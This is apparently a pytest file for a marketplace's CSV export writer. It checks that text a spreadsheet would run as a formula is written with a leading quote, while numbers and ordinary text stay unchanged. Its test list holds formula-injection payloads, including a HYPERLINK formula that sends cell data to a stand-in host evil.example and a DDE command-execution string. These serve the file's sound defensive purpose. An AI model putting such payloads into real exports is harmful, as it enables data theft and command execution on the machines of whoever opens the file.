"""The one CSV writer: text that a spreadsheet would run as a formula is written as text,
numbers passed as numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from marketplace.csv_export import SpreadsheetWriter, spreadsheet_cell

FORMULA_PAYLOADS = [
    "=1+1",
    '=1+HYPERLINK("http://evil.example/?d="&D2,"Open statement")',
    "=HYPERLINK(1)",
    "+1+1",
    "+92 300 1234567",
    "+923001234567",
    "-1+1",
    "-1800.00",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def written(row) -> list[str]:
    stream = io.StringIO()
    SpreadsheetWriter(stream).writerow(row)
    return next(csv.reader(io.StringIO(stream.getvalue())))


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_text_a_spreadsheet_would_run_is_written_with_a_leading_quote(payload):
    assert written([payload]) == ["'" + payload]


@pytest.mark.parametrize(
    "value, cell",
    [
        (Decimal("-1800.00"), "-1800.00"),
        (Decimal("1800.50"), "1800.50"),
        (Decimal("1E+3"), "1000"),
        (-3, "-3"),
        (42, "42"),
        (-0.5, "-0.5"),
    ],
)
def test_numbers_passed_as_numbers_stay_numbers(value, cell):
    assert written([value]) == [cell]


@pytest.mark.parametrize(
    "value, cell",
    [
        ("Hala Ralli Makers", "Hala Ralli Makers"),
        ("ہالہ رلی", "ہالہ رلی"),
        ("PK36SCBL0000001123456702", "PK36SCBL0000001123456702"),
        ("03001234567", "03001234567"),
        ("a=b", "a=b"),
        (None, ""),
        (True, "True"),
        (datetime.date(2026, 4, 5), "2026-04-05"),
    ],
)
def test_ordinary_text_and_dates_are_written_unchanged(value, cell):
    assert written([value]) == [cell]


def test_lazy_translated_text_is_neutralised_too():
    from django.utils.functional import lazy

    lazy_text = lazy(lambda: "=1+1", str)()

    assert spreadsheet_cell(lazy_text) == "'=1+1"
